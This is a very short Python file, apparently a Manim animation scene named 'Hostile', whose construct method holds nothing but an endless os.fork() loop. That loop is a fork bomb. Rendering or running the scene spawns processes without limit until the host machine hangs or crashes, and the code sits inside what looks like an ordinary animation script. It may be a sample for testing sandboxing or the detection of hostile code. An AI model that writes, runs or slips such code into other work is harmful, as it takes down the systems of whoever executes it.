import os

from manim import *


class Hostile(Scene):
    def construct(self):
        while True:
            os.fork()
